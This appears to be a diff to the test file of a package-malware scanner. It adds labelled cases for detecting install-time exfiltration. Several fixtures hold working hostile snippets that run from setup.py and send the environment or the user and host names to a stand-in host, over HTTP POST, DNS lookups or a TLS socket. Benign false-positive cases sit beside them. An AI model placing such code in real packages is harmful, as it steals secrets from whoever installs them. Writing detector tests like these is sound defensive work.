@@ -232,6 +232,25 @@ CASES = [
     ({"demo-1.0/setup.py": "from setuptools import setup\nfrom pre import report\nreport()\nsetup()\n",
       "demo-1.0/pre.py": "import os, requests\ndef report():\n    requests.post('https://x.example', data=dict(os.environ))\n"},
      "code.exfiltration", C, "every function of a module setup.py imports runs at install"),
+    ({"demo/net.py": "import socket\ndef local_ip():\n    return socket.gethostbyname(socket.gethostname())\n"
+                     "def where():\n    return 'https://ipinfo.io/json'\n"},
+     "code.exfiltration", None, "FP regression: resolving the host's own name sends nothing"),
+    (setup_py("import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.example')\n"),
+     "code.exfiltration", C, "a user name sent out inside a DNS name at install"),
+    ({"demo/ssh.py": "import os, paramiko\ndef run(host):\n    c = paramiko.SSHClient()\n"
+                     "    c.load_host_keys(os.path.expanduser('~/.ssh/known_hosts'))\n"
+                     "    c.connect(host, key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n"
+                     "    return c.exec_command('uptime')\n"
+                     "def where():\n    return 'https://ipinfo.io/json'\n"},
+     "code.exfiltration", None, "FP regression: an SSH client loading its own keys sends none"),
+    (setup_py("import socket, getpass\nu = getpass.getuser()\nd = u + '.' + socket.gethostname() + '.x.example'\n"
+              "socket.gethostbyname(d)\n"),
+     "code.exfiltration", C, "user and host put into a DNS name held in a variable, at install"),
+    (setup_py("import os, socket, ssl\nctx = ssl.create_default_context()\n"
+              "with socket.create_connection(('x.example', 443)) as raw:\n"
+              "    with ctx.wrap_socket(raw, server_hostname='x.example') as tls:\n"
+              "        tls.send(str(dict(os.environ)).encode())\n"),
+     "code.exfiltration", C, "the environment sent over a TLS-wrapped socket at install"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
